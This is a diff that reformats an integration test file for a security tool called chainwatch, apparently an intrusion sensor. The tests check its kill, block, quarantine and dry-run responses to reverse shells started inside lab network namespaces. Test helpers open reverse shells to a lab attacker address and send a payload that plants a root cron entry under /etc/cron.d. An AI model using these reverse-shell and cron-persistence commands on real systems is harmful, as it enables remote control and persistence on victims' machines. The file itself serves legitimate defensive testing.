@@ -36,11 +36,17 @@ WAIT = 30.0  # bound on waiting for the sensor's alerts (polling; never asserted
 
 # ------------------------------------------------------------------------------------------ helpers
 
+
 def write_config(tmp_path: Path, **response: Any) -> tuple[ResponseConfig, Path]:
     """A config file whose [response] table has these keys, with the socket and quarantine in tmp_path."""
-    values = {"enabled": True, "min_severity": "medium", "block_ttl_s": 30.0,
-              "control_socket": str(tmp_path / "run" / "control.sock"),
-              "quarantine_dir": str(tmp_path / "quarantine"), **response}
+    values = {
+        "enabled": True,
+        "min_severity": "medium",
+        "block_ttl_s": 30.0,
+        "control_socket": str(tmp_path / "run" / "control.sock"),
+        "quarantine_dir": str(tmp_path / "quarantine"),
+        **response,
+    }
 
     def toml(v: Any) -> str:
         if isinstance(v, bool):
@@ -48,6 +54,7 @@ def write_config(tmp_path: Path, **response: Any) -> tuple[ResponseConfig, Path]
         if isinstance(v, list):
             return "[" + ", ".join(toml(x) for x in v) + "]"
         return repr(v) if isinstance(v, float) else f'"{v}"'
+
     path = tmp_path / "chainwatch.toml"
     path.write_text("[response]\n" + "".join(f"{k} = {toml(v)}\n" for k, v in values.items()))
     return parse_config(path.read_text(), str(path)).response, path
@@ -82,6 +89,7 @@ def respond(sensorlab: Any) -> Iterator[Callable[[ResponseConfig], Stage]]:
             except BaseException as exc:  # the poll thread must survive; the test reports it
                 errors.append(exc)
                 return alert
+
         sensorlab.respond = only_ours
         return stage
 
@@ -94,11 +102,14 @@ def respond(sensorlab: Any) -> Iterator[Callable[[ResponseConfig], Stage]]:
     assert not errors, errors
 
 
-def tree_alerts(sensorlab: Any, since: int, root: int, done: Callable[[list[dict[str, Any]]], bool]
-                ) -> list[dict[str, Any]]:
+def tree_alerts(
+    sensorlab: Any, since: int, root: int, done: Callable[[list[dict[str, Any]]], bool]
+) -> list[dict[str, Any]]:
     """Our tree's alerts past ``since``, polled until ``done`` or WAIT, then a second more for late lines."""
+
     def ours(alerts: list[dict[str, Any]]) -> list[dict[str, Any]]:
         return [a for a in alerts if root in alert_pids(a)]
+
     return wait_alerts(sensorlab, since, ours, done, timeout=WAIT)
 
 
@@ -127,19 +138,23 @@ def shell(host: str, port: int) -> str:
 
 # ------------------------------------------------------------------------------------------- tests
 
+
 def test_kill_takes_the_reverse_shell_tree_and_nothing_else(sensorlab, netlab, respond, tmp_path) -> None:
     """The reverse shell (started under timeout(1)) is SIGKILLed; a sibling the same script started and the
     script itself survive."""
     port = netlab.port()
     listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))\n", duration=25)
     sibling_file, rc_file = tmp_path / "sibling.pid", tmp_path / "rc"
-    script = (f"sleep 60 & echo $! > {sibling_file}; sleep 0.5; {shell(netlab.attacker_ip4, port)}; "
-              f"echo $? > {rc_file}; sleep 30")
+    script = (
+        f"sleep 60 & echo $! > {sibling_file}; sleep 0.5; {shell(netlab.attacker_ip4, port)}; "
+        f"echo $? > {rc_file}; sleep 30"
+    )
     stage = respond(write_config(tmp_path, actions=["kill"])[0])
     mark = sensorlab.mark()
     amark = sensorlab.alert_mark()
-    wrapper = netlab.spawn(netlab.victim_ns, ["bash", "-c", script],
-                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    wrapper = netlab.spawn(
+        netlab.victim_ns, ["bash", "-c", script], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
+    )
     stage.root = wrapper.pid
 
     rc = wait_file(rc_file)
@@ -164,20 +179,30 @@ def test_block_refuses_the_c2_address_until_unblocked(sensorlab, netlab, respond
     blocked, other = netlab.add_attacker_addresses(2)
     config, config_file = write_config(tmp_path, actions=["block"])
     port = netlab.port()
-    listener = netlab.listen_tcp(netlab.attacker_ns, port, bind=blocked, payload=b"echo cw-$((6*7))\nexit\n",
-                                 duration=15)
+    listener = netlab.listen_tcp(
+        netlab.attacker_ns, port, bind=blocked, payload=b"echo cw-$((6*7))\nexit\n", duration=15
+    )
     stage = respond(config)
     responder = stage.responder
     amark = sensorlab.alert_mark()
-    wrapper = netlab.spawn(netlab.victim_ns, ["bash", "-c", f"sleep 0.5; {shell(blocked, port)}; sleep 30"],
-                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    wrapper = netlab.spawn(
+        netlab.victim_ns,
+        ["bash", "-c", f"sleep 0.5; {shell(blocked, port)}; sleep 30"],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     stage.root = wrapper.pid
     assert b"cw-42" in listener.wait(timeout=30), "fixture: the reverse shell did not run the attacker's command"
     alerts = tree_alerts(sensorlab, amark, wrapper.pid, lambda sel: bool(responses(sel, "block")))
     assert responses(alerts, "block") == [
-        {"action": "block", "target": blocked, "result": "done",
-         "reason": f"connects and UDP sends to {blocked} refused in the kernel for 30 s; "
-                   f"`chainwatch response unblock {blocked}` lifts it"}], summary(alerts)
+        {
+            "action": "block",
+            "target": blocked,
+            "result": "done",
+            "reason": f"connects and UDP sends to {blocked} refused in the kernel for 30 s; "
+            f"`chainwatch response unblock {blocked}` lifts it",
+        }
+    ], summary(alerts)
 
     def connect(address: str) -> subprocess.CompletedProcess:
         p = netlab.port()
@@ -190,11 +215,21 @@ def test_block_refuses_the_c2_address_until_unblocked(sensorlab, netlab, respond
     udp = netlab.send_udp(netlab.victim_ns, blocked, netlab.port(), b"x", timeout=3)
     assert udp.returncode == 1 and b"EPERM" in udp.stderr, udp
 
-    listing = subprocess.run([*CHAINWATCH, "response", "list", "--config", str(config_file)], cwd=ROOT,
-                             capture_output=True, text=True, timeout=30)
+    listing = subprocess.run(
+        [*CHAINWATCH, "response", "list", "--config", str(config_file)],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=30,
+    )
     assert blocked in listing.stdout and listing.returncode == 0, listing
-    done = subprocess.run([*CHAINWATCH, "response", "unblock", blocked, "--config", str(config_file)], cwd=ROOT,
-                          capture_output=True, text=True, timeout=30)
+    done = subprocess.run(
+        [*CHAINWATCH, "response", "unblock", blocked, "--config", str(config_file)],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=30,
+    )
     assert done.returncode == 0 and f"unblocked {blocked}" in done.stdout, done
     assert connect(blocked).returncode == 0, "unblock must restore connects"
 
@@ -236,16 +271,17 @@ def test_block_ipv6_and_the_kernel_enforces_the_ttl(netlab) -> None:
         blocker.close()
 
 
-def cron_attack(netlab: Any, tmp_path: Path, host: str, port: int, name: str, marker: str
-                ) -> tuple[Any, subprocess.Popen, Path]:
+def cron_attack(
+    netlab: Any, tmp_path: Path, host: str, port: int, name: str, marker: str
+) -> tuple[Any, subprocess.Popen, Path]:
     """A reverse shell in a private mount namespace (overlay on /etc) whose attacker writes /etc/cron.d/<name>;
     the namespace's root shell then waits for ``release`` (bounded) so the test can look inside."""
-    payload = (f"mkdir -p /etc/cron.d; echo '* * * * * root /bin/true {marker}' > /etc/cron.d/{name}; "
-               "echo cw-$((6*7)); exit\n").encode()
+    payload = (
+        f"mkdir -p /etc/cron.d; echo '* * * * * root /bin/true {marker}' > /etc/cron.d/{name}; echo cw-$((6*7)); exit\n"
+    ).encode()
     listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=payload, duration=20)
     release = tmp_path / "release"
-    inner = (f"sleep 0.5; {shell(host, port)}; "
-             f"for i in $(seq 600); do [ -e {release} ] && break; sleep 0.1; done")
+    inner = f"sleep 0.5; {shell(host, port)}; for i in $(seq 600); do [ -e {release} ] && break; sleep 0.1; done"
     argv = in_private_overlays(["bash", "-c", inner], ["/etc"], tmp_path / "scratch", tmp_path / "evidence")
     holder = netlab.spawn(netlab.victim_ns, argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
     return listener, holder, release
@@ -276,9 +312,23 @@ def test_quarantine_moves_the_cron_file_and_restore_puts_it_back(sensorlab, netl
         assert marker in (entry / "content").read_text()
         assert entry.name in quarantined[0]["reason"]
 
-        restore = subprocess.run(["nsenter", f"--mount=/proc/{holder.pid}/ns/mnt", "--", *CHAINWATCH, "response",
-                                  "restore", entry.name, "--config", str(config_file)], cwd=ROOT,
-                                 capture_output=True, text=True, timeout=30)
+        restore = subprocess.run(
+            [
+                "nsenter",
+                f"--mount=/proc/{holder.pid}/ns/mnt",
+                "--",
+                *CHAINWATCH,
+                "response",
+                "restore",
+                entry.name,
+                "--config",
+                str(config_file),
+            ],
+            cwd=ROOT,
+            capture_output=True,
+            text=True,
+            timeout=30,
+        )
         assert restore.returncode == 0, restore
         assert marker in view.read_text(), "restore did not put the file back in the namespace"
         assert not entry.exists()
@@ -308,6 +358,7 @@ def test_dry_run_changes_nothing(sensorlab, netlab, respond, tmp_path) -> None:
 
         def all_three(sel: list[dict[str, Any]]) -> bool:
             return {r["action"] for r in responses(sel)} >= {"kill", "block", "quarantine"}
+
         alerts = tree_alerts(sensorlab, amark, holder.pid, all_three)
         got = responses(alerts)
         assert all_three(alerts), summary(alerts) + f"\n{got}"
@@ -329,33 +380,41 @@ def test_response_config_is_checked_at_startup(tmp_path) -> None:
     """`chainwatch run` with a bad [response] table exits 2 with one sentence naming the key."""
     bad = tmp_path / "bad.toml"
     bad.write_text("[response]\nenabled = true\n")
-    done = subprocess.run([*CHAINWATCH, "run", "--config", str(bad)], cwd=ROOT, capture_output=True, text=True,
-                          timeout=60)
+    done = subprocess.run(
+        [*CHAINWATCH, "run", "--config", str(bad)], cwd=ROOT, capture_output=True, text=True, timeout=60
+    )
     assert done.returncode == 2, done
     assert "response.enabled is true but neither response.min_severity nor response.rules" in done.stderr
-
-
 
 
 def test_daemon_loads_blocking_serves_the_socket_and_cleans_up(tmp_path) -> None:
     """`chainwatch run` with blocking on: response_ready says so, `response list` reaches it through the control
     socket, and SIGINT exits 0 and removes the socket. Every network is protected, so this agent (which sees
     the whole host) can never block anything, whatever other sessions run meanwhile."""
-    config, config_file = write_config(tmp_path, actions=["block"], min_severity="critical",
-                                       protected_networks=["0.0.0.0/0", "::/0"])
+    config, config_file = write_config(
+        tmp_path, actions=["block"], min_severity="critical", protected_networks=["0.0.0.0/0", "::/0"]
+    )
     log = tmp_path / "run.log"
     with log.open("w") as err:
-        agent = subprocess.Popen([*CHAINWATCH, "run", "--config", str(config_file), "--alerts",
-                                  str(tmp_path / "alerts.jsonl")], cwd=ROOT, stderr=err, stdout=subprocess.DEVNULL)
+        agent = subprocess.Popen(
+            [*CHAINWATCH, "run", "--config", str(config_file), "--alerts", str(tmp_path / "alerts.jsonl")],
+            cwd=ROOT,
+            stderr=err,
+            stdout=subprocess.DEVNULL,
+        )
     try:
-        wait_until(lambda: '"sensor_ready"' in log.read_text() or agent.poll() is not None, timeout=120,
-                   interval=0.2)
+        wait_until(lambda: '"sensor_ready"' in log.read_text() or agent.poll() is not None, timeout=120, interval=0.2)
         text = log.read_text()
         assert '"sensor_ready"' in text, text
         ready = [json.loads(line) for line in text.splitlines() if '"response_ready"' in line]
         assert ready and ready[0]["blocking"] is True and ready[0]["dry_run"] is False, text
-        listing = subprocess.run([*CHAINWATCH, "response", "list", "--config", str(config_file)], cwd=ROOT,
-                                 capture_output=True, text=True, timeout=30)
+        listing = subprocess.run(
+            [*CHAINWATCH, "response", "list", "--config", str(config_file)],
+            cwd=ROOT,
+            capture_output=True,
+            text=True,
+            timeout=30,
+        )
         reply = json.loads(listing.stdout)
         assert reply["agent"] == {"ok": True, "blocks": [], "dry_run": False, "blocking": True}, listing
     finally:
